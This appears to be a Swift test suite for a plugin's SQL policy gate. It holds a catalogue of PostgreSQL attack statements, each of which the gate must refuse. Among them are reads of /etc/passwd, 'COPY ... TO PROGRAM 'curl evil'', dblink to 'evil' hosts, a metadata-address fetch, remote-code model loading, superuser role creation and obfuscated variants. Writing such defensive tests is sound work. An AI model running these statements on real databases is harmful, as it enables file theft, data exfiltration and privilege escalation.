import PluginAPI
import Testing

@Suite("Attacks on the repository's own policy")
struct AttackTests {
    @Test("Nothing of this passes", arguments: Attacks.all)
    func refused(attack: Case) throws {
        let denial = try #require(try Gate.shipped.get().denial(attack.sql), "let through")
        #expect(denial.rule.hasPrefix(attack.rule), "\(denial.message)")
        #expect(denial.sqlState == Denial("", rule: "", hint: "").sqlState)
        #expect(!denial.hint.isEmpty)
    }

    @Test("There are enough of them")
    func count() {
        #expect(Attacks.all.count >= 150)
    }
}

/// Statements by class, each with the key that must refuse it.
enum Attacks {
    static let all = Case.table(
        [functions, disguises, arguments, settings, relations, types, statements].joined(separator: "\n")
    )

    static let functions = #"""
        functions | SELECT pg_read_file('/etc/passwd')
        functions | SELECT pg_catalog.pg_read_file('/etc/passwd')
        functions | SELECT PG_READ_FILE('/etc/passwd')
        functions | SELECT "pg_read_file"('/etc/passwd')
        functions | SELECT U&"pg\005fread\005ffile"('/etc/passwd')
        functions | SELECT U&"pg!005fread_file" UESCAPE '!' ('/etc/passwd')
        functions | SELECT pgml.pg_catalog.pg_read_file('/etc/passwd')
        functions | SELECT other.pgml.embed('intfloat/e5-small-v2', 'x')
        functions | SELECT CASE WHEN false THEN pg_typeof(1) ELSE 'pg_authid' END
        functions | SELECT ARRAY[pg_typeof(1), 'app.secret']
        functions | SELECT regproc('pg_read_file')
        functions | SELECT (123).pg_terminate_backend
        functions | SELECT TREAT('.' AS pg_ls_dir)
        functions | SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS x
        functions | SELECT xmlparse(DOCUMENT '<a/>')
        functions | SELECT 1 WHERE '<a/>' IS DOCUMENT
        functions | SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM app.inbox
        functions | SELECT rank() OVER (PARTITION BY pg_sleep(1)::text ORDER BY 1) FROM app.inbox
        functions | SELECT count(*) FROM app.inbox GROUP BY GROUPING SETS ((pg_sleep(1)::text), ())
        functions | SELECT 1 FROM app.inbox LIMIT length(pg_read_file('/etc/passwd'))
        functions | SELECT (ARRAY[1])[pg_backend_pid()]
        functions | DELETE FROM app.inbox WHERE id = 1 RETURNING pg_sleep(1)
        functions | INSERT INTO app.inbox (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET body = pg_read_file('x')
        functions | SELECT 1 FROM app.inbox TABLESAMPLE evil (1)
        functions | VALUES (pg_sleep(1))
        functions | EXPLAIN SELECT pg_sleep(1)
        functions | PREPARE p AS SELECT pg_sleep($1)
        functions | DECLARE c CURSOR FOR SELECT pg_sleep(1)
        functions | SELECT pg_ls_dir('.')
        functions | SELECT pg_stat_file('x')
        functions | SELECT * FROM pg_ls_logdir()
        functions | SELECT lo_import('/etc/passwd')
        functions | SELECT lo_export(1, '/tmp/x')
        functions | SELECT lo_get(1)
        functions | SELECT pg_sleep(100)
        functions | SELECT pg_sleep_for('1 hour')
        functions | SELECT pg_terminate_backend(1)
        functions | SELECT pg_cancel_backend(pg_backend_pid())
        functions | SELECT pg_reload_conf()
        functions | SELECT pg_advisory_lock(1)
        functions | SELECT pg_notify('a', 'b')
        functions | SELECT nextval('s')
        functions | SELECT set_config('search_path', 'evil', false)
        functions | SELECT pg_catalog.set_config('pgml.huggingface_trust_remote_code', 'on', false)
        functions | SELECT current_setting('pgml.huggingface_whitelist')
        functions | SELECT query_to_xml('SELECT pgml.dump_all($$/tmp$$)', true, true, '')
        functions | SELECT table_to_xml('pg_authid', true, true, '')
        functions | SELECT schema_to_xml('pgml', true, true, '')
        functions | SELECT database_to_xml(true, true, '')
        functions | SELECT cursor_to_xml('c', 1, true, true, '')
        functions | SELECT * FROM ts_stat('SELECT pgml.dump_all($$/tmp$$)')
        functions | SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
        functions | SELECT dblink('host=evil', 'SELECT 1')
        functions | SELECT * FROM dblink_connect('x')
        functions | SELECT has_table_privilege('pg_authid', 'select')
        functions | SELECT pg_get_functiondef(1)
        functions | SELECT to_regclass('pg_authid')
        functions | SELECT pg_relation_filepath('app.inbox')
        functions | SELECT inet_server_addr()
        functions | SELECT txid_current()
        functions | SELECT pg_export_snapshot()
        functions | SELECT pg_logical_emit_message(true, 'a', 'b')
        functions | SELECT pg_create_logical_replication_slot('a', 'pgoutput')
        functions | SELECT pgml.activate_venv('/tmp/evil')
        functions | SELECT pgml.dump_all('/tmp')
        functions | SELECT "pgml"."dump_all"('/tmp')
        functions | SELECT PGML.DUMP_ALL('/tmp')
        functions | SELECT pgml.load_all('/tmp')
        functions | SELECT pgml.load_dataset('digits')
        functions | SELECT * FROM pgml.tune('x', model_name => 'gpt2')
        functions | SELECT * FROM pgml.train('x', 'regression', 'app.inbox', 'id')
        functions | SELECT * FROM pgml.train_joint('x')
        functions | SELECT pgml.snapshot('app.inbox', 'id')
        functions | SELECT pgml.deploy(12)
        functions | SELECT pgml.auto_updated_at('app.inbox'::regclass)
        functions | SELECT pgml.python_package_version('antigravity')
        functions | SELECT pgml.python_pip_freeze()
        functions | SELECT pgml.generate('x', 'y')
        functions | SELECT pgml.clear_gpu_cache()
        functions | SELECT embed('intfloat/e5-small-v2', 'x')
        functions | SELECT pg_temp.lower('X')
        functions | SELECT evil.lower('X')
        functions | SELECT evil('X')
        functions | SELECT pgml.no_such_function()
        """#

    static let disguises = #"""
        functions | SELECT f.pg_ls_dir FROM concat('.') AS f
        functions | SELECT f.pg_ls_dir FROM CAST('.' AS text) AS f
        functions | SELECT f.pg_ls_dir FROM coalesce('.') AS f
        functions | SELECT u.pg_sleep FROM pi() AS u
        functions | SELECT f.pg_read_file FROM current_schema AS f
        functions | SELECT x.pg_ls_dir FROM ROWS FROM (concat('.')) AS x
        functions | SELECT ('/etc/passwd'::text).pg_read_file
        functions | SELECT ('/etc/passwd').pg_read_file
        functions | SELECT (ARRAY['.'])[1].pg_ls_dir
        functions | SELECT (SELECT '.'::text).pg_ls_dir
        functions | SELECT (row('a', 1)).pg_column_compression
        functions | SELECT t.record_out FROM app.inbox t
        functions | SELECT t.pg_column_compression FROM app.inbox t
        functions | SELECT 1 WHERE pg_sleep(1) IS NULL
        functions | SELECT 1 GROUP BY pg_sleep(1)
        functions | SELECT count(*) FROM app.inbox HAVING pg_sleep(1) IS NULL
        functions | SELECT id FROM app.inbox ORDER BY pg_sleep(1)
        functions | SELECT id FROM app.inbox LIMIT length(pg_read_file('x'))
        functions | SELECT id FROM app.inbox OFFSET length(pg_read_file('x'))
        functions | SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM app.inbox
        functions | SELECT sum(1) OVER (PARTITION BY pg_sleep(1)) FROM app.inbox
        functions | SELECT sum(1) OVER w FROM app.inbox WINDOW w AS (ORDER BY pg_sleep(1))
        functions | SELECT array_agg(id ORDER BY pg_sleep(1)) FROM app.inbox
        functions | SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)) FROM app.inbox
        functions | SELECT DISTINCT ON (pg_sleep(1)) id FROM app.inbox
        functions | SELECT CASE WHEN true THEN pg_sleep(1) END
        functions | SELECT COALESCE(pg_sleep(1), NULL)
        functions | SELECT NULLIF(pg_read_file('a'), 'b')
        functions | SELECT GREATEST(pg_read_file('a'), 'b')
        functions | SELECT ARRAY[pg_read_file('a')]
        functions | SELECT ROW(pg_read_file('a'))
        functions | SELECT (ARRAY[1])[length(pg_read_file('a'))]
        functions | SELECT lower(x => pg_read_file('a'))
        functions | SELECT concat(VARIADIC ARRAY[pg_read_file('a')])
        functions | SELECT 1 WHERE 'a' IN (SELECT pg_read_file('a'))
        functions | SELECT EXISTS (SELECT pg_read_file('a'))
        functions | SELECT 1 WHERE 'a' = ANY (ARRAY[pg_read_file('a')])
        functions | SELECT * FROM app.inbox a JOIN app.inbox b ON pg_sleep(1) IS NULL
        functions | SELECT * FROM app.inbox, LATERAL pg_ls_dir(body)
        functions | SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2)) AS x
        functions | SELECT * FROM app.inbox TABLESAMPLE pg_sleep (1)
        functions | SELECT * FROM app.inbox TABLESAMPLE system (length(pg_read_file('a')))
        functions | VALUES (pg_read_file('a'))
        functions | WITH a AS (SELECT pg_read_file('a')) SELECT * FROM a
        functions | WITH RECURSIVE a(x) AS (SELECT 1 UNION ALL SELECT length(pg_read_file('a')) FROM a) SELECT * FROM a
        functions | SELECT 1 UNION SELECT length(pg_read_file('a'))
        functions | INSERT INTO app.inbox (body) VALUES (pg_read_file('a'))
        functions | INSERT INTO app.inbox (body) SELECT pg_read_file('a')
        functions | INSERT INTO app.inbox (body) VALUES ('a') RETURNING pg_read_file('a')
        functions | INSERT INTO app.inbox (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET body = pg_read_file('a')
        functions | UPDATE app.inbox SET body = pg_read_file('a')
        functions | UPDATE app.inbox SET (id, body) = (SELECT 1, pg_read_file('a'))
        functions | DELETE FROM app.inbox WHERE pg_sleep(1) IS NULL
        functions | DELETE FROM app.inbox USING pg_ls_dir('.') AS d WHERE d = body
        functions | EXPLAIN SELECT pg_read_file('a')
        functions | EXPLAIN ANALYZE SELECT pgml.dump_all('/tmp')
        functions | EXPLAIN (ANALYZE, VERBOSE) SELECT pgml.activate_venv('/tmp')
        functions | DECLARE c CURSOR FOR SELECT pg_read_file('a')
        functions | DECLARE c CURSOR WITH HOLD FOR SELECT pg_read_file('a')
        functions | PREPARE p AS SELECT pg_read_file('a')
        functions | SELECT 1; SELECT pg_read_file('a')
        functions | BEGIN; SELECT 1; SELECT pgml.dump_all('/tmp'); COMMIT
        functions | /* harmless */ SELECT -- really⏎ pg_read_file('a')
        functions | SELECT pg_read_file /* x */ ('a')
        functions | SELECT xmlelement(name a, pg_read_file('a'))
        functions | SELECT sum(length(pg_read_file('a'))) OVER (ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)
        """#

    static let arguments = #"""
        calls: pgml.embed | SELECT pgml.embed('1'::int::text, 'x')
        calls: pgml.embed | SELECT pgml.embed('{gpt2}'::text[]::text, 'x')
        calls: pgml.embed | SELECT pgml.embed(E'gp\u0074\u0032', 'x')
        calls: pgml.embed | SELECT pgml.embed('sentence-transformers/all-MiniLM-L6-v2'⏎'x', 'x')
        calls: pgml.embed | SELECT pgml.embed(t.*) FROM (VALUES ('gpt2', 'b')) AS t
        calls: pgml.embed | SELECT pgml.embed(VARIADIC ARRAY['intfloat/e5-small-v2', 'a'])
        calls: pgml.embed | EXPLAIN ANALYZE SELECT pgml.embed('gpt2', 'x')
        calls: pgml.embed | DECLARE c CURSOR FOR SELECT pgml.embed('gpt2', 'x')
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size('1259')
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size('app.inbox'::regclass, 'fsm')
        calls: pgml.embed | SELECT pgml.embed('evil/model', 'x')
        calls: pgml.embed | SELECT pgml.embed('/tmp/model', 'x')
        calls: pgml.embed | SELECT pgml.embed('./model', 'x')
        calls: pgml.embed | SELECT pgml.embed('~/model', 'x')
        calls: pgml.embed | SELECT pgml.embed('../intfloat/e5-small-v2', 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2/..', 'x')
        calls: pgml.embed | SELECT pgml.embed('INTFLOAT/E5-SMALL-V2', 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2 ', 'x')
        calls: pgml.embed | SELECT pgml.embed(E'intfloat/e5-small-v2\n', 'x')
        calls: pgml.embed | SELECT pgml.embed(U&'\0065vil/model', 'x')
        calls: pgml.embed | SELECT pgml.embed($$evil/model$$, 'x')
        calls: pgml.embed | SELECT pgml.embed('int' || 'float/e5-small-v2', 'x')
        calls: pgml.embed | SELECT pgml.embed(lower('intfloat/e5-small-v2'), 'x')
        calls: pgml.embed | SELECT pgml.embed(body, 'x') FROM app.inbox
        calls: pgml.embed | SELECT pgml.embed((SELECT 'intfloat/e5-small-v2'), 'x')
        calls: pgml.embed | SELECT pgml.embed(coalesce('intfloat/e5-small-v2'), 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2'::varchar(3), 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2'::name, 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2'::"char", 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2'::character, 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2' COLLATE "C", 'x')
        calls: pgml.embed | SELECT pgml.embed(text => 'x', transformer => 'evil/model')
        calls: pgml.embed | SELECT pgml.embed('x', transformer => 'evil/model')
        calls: pgml.embed | SELECT pgml.embed(kwargs => '{"trust_remote_code": true}', text => 'x', transformer => 'gpt2')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"trust_remote_code": true}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"trust_remote_code": true}'::jsonb)
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', jsonb '{"trust_remote_code": true}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', CAST('{"token": "a"}' AS jsonb))
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"\u0074rust_remote_code": true}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"prompt": "a", "prompt": {"trust": 1}}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"prompt": "a", "\u0070rompt": "b"}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"prompt": {"trust_remote_code": true}}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"prompt": "a"} {"token": 1}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '[{"trust_remote_code": true}]')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"batch_size": 1000000}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"batch_size": "1"}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"model_kwargs": {}}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"revision": "evil"}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"device": "cuda"}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', jsonb_build_object('trust_remote_code', true))
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{}'::jsonb || '{"trust_remote_code": true}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{"prompt": "a"}'::jsonb::text::jsonb)
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', '{}', '{}')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', 'x', whatever => 1)
        calls: pgml.embed | SELECT pgml.embed(VARIADIC ARRAY['evil/model', 'x'])
        calls: pgml.embed | SELECT pgml.embed(*) FROM app.inbox
        calls: pgml.embed | SELECT pgml.embed(ARRAY['intfloat/e5-small-v2'], 'x')
        calls: pgml.embed | SELECT "pgml".embed('evil/model', 'x')
        calls: pgml.embed | SELECT pgml.pgml.embed('evil/model', 'x')
        calls: pgml.embed | SELECT pgml.embed('intfloat/e5-small-v2', (SELECT pgml.embed('evil/model', 'x'))::text)
        calls: pgml.embed | UPDATE app.inbox SET body = pgml.embed('evil/model', body)::text
        calls: pgml.embed | EXPLAIN SELECT pgml.embed('evil/model', 'x')
        calls: pgml.embed | PREPARE p AS SELECT pgml.embed('evil/model', $1)
        calls: pgml.embed | SELECT pgml.embed(X'61', 'x')
        calls: pgml.chunk | SELECT pgml.chunk('spacy', 'x', '{"pipeline": "evil"}')
        calls: pgml.chunk | SELECT pgml.chunk('nltk', 'x')
        calls: pgml.chunk | SELECT pgml.chunk('character', 'x', '{"separator": "(a+)+$", "is_separator_regex": true}')
        calls: pgml.rank | SELECT pgml.rank('evil/model', 'q', ARRAY['a'])
        calls: pgml.rank | SELECT pgml.rank('mixedbread-ai/mxbai-rerank-base-v1', 'q', ARRAY['a'], '{"activation_fn": 1}')
        calls: pgml.transform | SELECT pgml.transform('image-to-text', inputs => ARRAY['http://169.254.169.254/'])
        calls: pgml.transform | SELECT pgml.transform('{"task": "text-generation", "model": "evil/model"}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('{"model": "gpt2", "trust_remote_code": true}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('{"model": "gpt2", "tokenizer": "evil/model"}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('{"model": "gpt2", "config": "evil/model"}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('{"model": ["gpt2", "evil/model"]}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('{"model": "gpt2", "lib": "/tmp/evil.so"}'::jsonb)
        calls: pgml.transform | SELECT pgml.transform('"text-generation"'::jsonb)
        calls: pgml.transform | SELECT pgml.transform(' {"task": "text-generation", "custom_pipeline": "evil"}')
        calls: pgml.transform | SELECT pgml.transform('text-generation', '{"max_new_tokens": 1e9}')
        calls: pgml.transform | SELECT pgml.transform('text-generation', args => '{"model_kwargs": {}}')
        calls: pgml.transform | SELECT pgml.transform(args => '{}', task => '{"model": "evil/model"}'::jsonb)
        calls: pgml.transform_stream | SELECT pgml.transform_stream('image-to-text', input => 'http://evil/')
        calls: pg_catalog.pg_relation_size | SELECT pg_catalog.pg_relation_size('pg_catalog.pg_authid'::pg_catalog.regclass)
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size('pgml.files')
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size('16384')
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size(body::regclass) FROM app.inbox
        calls: pg_catalog.pg_relation_size | SELECT pg_relation_size('app.inbox', 'main')
        """#

    static let settings = #"""
        settings | SET pgml.huggingface_trust_remote_code = on
        settings | SET LOCAL pgml.huggingface_trust_remote_code = on
        settings | SET SESSION pgml.huggingface_whitelist = ''
        settings | SET "pgml"."venv" = '/tmp/evil'
        settings | SET PGML.VENV = '/tmp/evil'
        settings | RESET pgml.huggingface_whitelist
        settings | SHOW pgml.huggingface_whitelist
        settings | SET pgml.huggingface_whitelist TO DEFAULT
        settings | SET ROLE postgres
        settings | SET SESSION AUTHORIZATION postgres
        settings | RESET ROLE
        settings | SET session_preload_libraries = 'evil'
        settings | SET local_preload_libraries = 'evil'
        settings | SET statement_timeout = 0
        settings | SET row_security = off
        settings | SET standard_conforming_strings = off
        settings | SET backslash_quote = on
        settings | SET client_encoding = 'SJIS'
        settings | SET NAMES 'GBK'
        settings | SET transform_null_equals = on
        settings | SET default_tablespace = 'x'
        settings | SHOW ALL
        settings | RESET ALL
        settings | SHOW data_directory
        settings | SHOW hba_file
        settings | SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE, ISOLATION LEVEL SERIALIZABLE; SET x.y = 1
        settings | SET TRANSACTION SNAPSHOT '00000003-0000001B-1'
        settings | SET timezone = '../../etc/passwd'
        schemas | SET search_path = evil
        schemas | SET search_path = evil, pg_catalog
        schemas | SET search_path TO "$user", public
        schemas | SET search_path = 'pg_catalog, evil'
        schemas | SET LOCAL search_path = evil
        schemas | SET SCHEMA 'evil'
        schemas | SET SESSION search_path = public
        schemas | SET SEARCH_PATH = public
        statements | SET search_path FROM CURRENT
        """#

    static let relations = #"""
        relations | SELECT * FROM pg_authid
        relations | SELECT * FROM pg_catalog.pg_authid
        relations | SELECT * FROM pg_shadow
        relations | TABLE pg_authid
        relations | SELECT * FROM pg_settings
        relations | UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'
        relations | SELECT * FROM pg_stat_activity
        relations | SELECT * FROM pg_user_mapping
        relations | SELECT * FROM information_schema.tables
        relations | SELECT * FROM pgml.files
        relations | SELECT * FROM pgml.deployed_models
        relations | INSERT INTO pgml.files (model_id, path, part, data) VALUES (1, 'a', 0, '\x')
        relations | UPDATE pgml.deployments SET model_id = 1
        relations | DELETE FROM pgml.models
        relations | SELECT * FROM inbox
        relations | SELECT * FROM app.secret
        relations | SELECT * FROM "APP".inbox
        relations | SELECT * FROM "app"."Inbox"
        relations | SELECT * FROM other.app.inbox
        relations | SELECT * FROM pg_temp.inbox
        relations | WITH a AS (SELECT * FROM secret), secret AS (SELECT 1) SELECT * FROM a
        relations | WITH secret AS (SELECT * FROM secret) SELECT * FROM secret
        relations | WITH inbox AS (SELECT 1) SELECT * FROM inbox, app.secret
        relations | SELECT (WITH x AS (SELECT 1) SELECT 1 FROM x), (SELECT 1 FROM x)
        relations | SELECT * FROM app.inbox WHERE id IN (SELECT id FROM app.secret)
        relations | INSERT INTO app.inbox_embedded (id) VALUES (1)
        relations | INSERT INTO app.inbox (body) SELECT rolpassword FROM pg_authid
        relations | UPDATE app.inbox SET body = s.x FROM app.secret s
        relations | DELETE FROM app.inbox USING app.secret
        relations | WITH w AS (INSERT INTO app.secret VALUES (1) RETURNING 1) SELECT * FROM w
        relations | DECLARE c CURSOR FOR SELECT * FROM app.secret
        relations | EXPLAIN SELECT * FROM app.secret
        relations | TRUNCATE app.secret
        relations | TRUNCATE app.inbox
        relations | SELECT * FROM app.inbox_embedded FOR UPDATE
        relations | SELECT * FROM ONLY app.secret
        relations | SELECT pg_authid FROM pg_authid
        """#

    static let types = #"""
        types | SELECT 'pg_authid'::regclass
        types | SELECT 'pg_authid'::pg_catalog.regclass
        types | SELECT regclass 'pg_authid'
        types | SELECT CAST('pg_authid' AS regclass)
        types | SELECT 'pg_read_file'::regproc
        types | SELECT ('pg_read_file'::text).regproc
        types | SELECT f.regnamespace FROM concat('pgml') AS f
        functions | SELECT ('pg_authid'::text).regclass
        functions | SELECT regclass('pg_authid')
        functions | SELECT regprocedure('now()')
        types | SELECT 'postgres'::regrole
        types | SELECT 'pgml'::regnamespace
        types | SELECT ARRAY['pg_authid']::regclass[]
        types | SELECT '{pg_authid}'::_regclass
        types | SELECT 'x'::evil.dom
        types | SELECT 'x'::dom
        types | SELECT evil.dom 'x'
        types | SELECT '<a/>'::xml
        types | SELECT '(1)'::pg_authid
        types | SELECT NULL::pg_catalog.pg_authid
        types | SELECT NULL::app.inbox
        types | SELECT * FROM json_to_record('{"a": 1}') AS t(a evil.dom)
        types | SELECT * FROM json_populate_record(NULL::pgml.files, '{}')
        types | PREPARE p (evil.dom) AS SELECT $1
        types | SELECT 'x'::pg_temp.text
        types | SELECT 'postgres=r/postgres'::aclitem
        types | SELECT '1'::other.pg_catalog.int4
        types | SELECT pg_relation_size('app.inbox'::regclass), 'pg_authid'::regclass
        operators | SELECT 1 OPERATOR(evil.+) 2
        operators | SELECT 1 OPERATOR(pgml.+) 2
        operators | SELECT - 1 OPERATOR(evil.=) 2
        operators | SELECT 1 WHERE 1 OPERATOR(evil.=) ANY (ARRAY[1])
        operators | SELECT id FROM app.inbox ORDER BY id USING OPERATOR(evil.<)
        operators | SELECT 1 <=> 2
        schemas | SELECT 'a' COLLATE evil.c
        """#

    static let statements = #"""
        statements | COPY app.inbox TO PROGRAM 'curl evil'
        statements | COPY app.inbox FROM PROGRAM 'curl evil'
        statements | COPY app.inbox TO '/tmp/x'
        statements | COPY (SELECT pg_read_file('a')) TO STDOUT
        statements | COPY app.inbox FROM STDIN
        statements | DO $$ BEGIN PERFORM pgml.dump_all('/tmp'); END $$
        statements | CALL evil.p()
        statements | CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'SELECT 1'
        statements | CREATE TABLE app.t (a int)
        statements | CREATE TEMP TABLE text (a int)
        statements | CREATE TABLE app.t AS SELECT 1
        statements | CREATE TABLE app.t AS EXECUTE p
        statements | SELECT 1 AS a INTO app.t
        statements | CREATE VIEW app.v AS SELECT 1
        statements | CREATE EXTENSION plpython3u
        statements | CREATE SCHEMA evil
        statements | CREATE ROLE evil SUPERUSER
        statements | CREATE OPERATOR + (FUNCTION = evil, LEFTARG = int, RIGHTARG = int)
        statements | CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
        statements | CREATE DOMAIN d AS text CHECK (pg_read_file(VALUE) IS NULL)
        statements | CREATE TRIGGER t BEFORE INSERT ON app.inbox EXECUTE FUNCTION evil()
        statements | CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
        statements | ALTER SYSTEM SET shared_preload_libraries = 'evil'
        statements | ALTER ROLE pg SET search_path = evil
        statements | ALTER DATABASE pgml SET search_path = evil
        statements | ALTER TABLE app.inbox ADD COLUMN x int DEFAULT evil()
        statements | DROP TABLE app.inbox
        statements | GRANT ALL ON app.inbox TO PUBLIC
        statements | LOAD 'evil'
        statements | LOCK TABLE app.inbox
        statements | LISTEN x
        statements | NOTIFY x, 'y'
        statements | DISCARD ALL
        statements | DISCARD TEMP
        statements | VACUUM
        statements | ANALYZE app.inbox
        statements | CHECKPOINT
        statements | REINDEX DATABASE pgml
        statements | CLUSTER
        statements | PREPARE TRANSACTION 'x'
        statements | COMMIT PREPARED 'x'
        statements | MERGE INTO app.inbox t USING app.inbox s ON t.id = s.id WHEN MATCHED THEN DELETE
        statements | TRUNCATE app.inbox CASCADE
        statements | EXPLAIN EXECUTE p('x')
        statements | EXPLAIN CREATE TABLE app.t AS SELECT 1
        statements | SECURITY LABEL ON TABLE app.inbox IS 'x'
        statements | IMPORT FOREIGN SCHEMA x FROM SERVER y INTO app
        statements | REFRESH MATERIALIZED VIEW app.v
        statements | COMMENT ON TABLE app.inbox IS 'x'
        statements | BEGIN; CREATE TABLE app.t (a int); COMMIT
        """#
}
